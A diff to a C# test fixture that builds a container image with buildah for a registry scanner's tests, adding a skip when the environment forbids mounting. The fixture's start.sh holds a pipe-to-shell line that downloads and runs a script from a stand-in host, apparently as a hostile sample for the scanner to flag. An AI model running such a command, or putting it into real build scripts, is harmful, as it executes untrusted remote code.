@@ -33,7 +33,15 @@ public sealed class RegistryScanTests : IDisposable
         File.WriteAllText(At("start.sh"), "#!/bin/sh\ncurl -fsS https://cdn.example.invalid/x | sh\n");
         File.WriteAllText(At("Dockerfile"), "FROM scratch\nCOPY policy.json /etc/harmless.json\nCOPY start.sh /start.sh\nENTRYPOINT [\"/bin/sh\", \"/start.sh\"]\n");
         string[] storage = ["--root", At("storage"), "--runroot", At("run"), "--storage-driver", "vfs"];
-        LocalRegistry.Output("buildah", [.. storage, "bud", "--layers", "--isolation", "chroot", "--signature-policy", At("policy.json"), "-t", "made:1", "-f", At("Dockerfile"), folder]);
+        try
+        {
+            LocalRegistry.Output("buildah", [.. storage, "bud", "--layers", "--isolation", "chroot", "--signature-policy", At("policy.json"), "-t", "made:1", "-f", At("Dockerfile"), folder]);
+        }
+        catch (InvalidOperationException refused) when (refused.Message.Contains("remount /", StringComparison.Ordinal) || refused.Message.Contains("operation not permitted", StringComparison.Ordinal))
+        {
+            Assert.Skip("buildah may not mount here: a container without CAP_SYS_ADMIN, or a chroot");
+        }
+
         LocalRegistry.Output("buildah", [.. storage, "push", "-q", "--signature-policy", At("policy.json"), "made:1", "oci:" + At("made") + ":1"]);
         return $"oci:{At("made")}:1";
     }
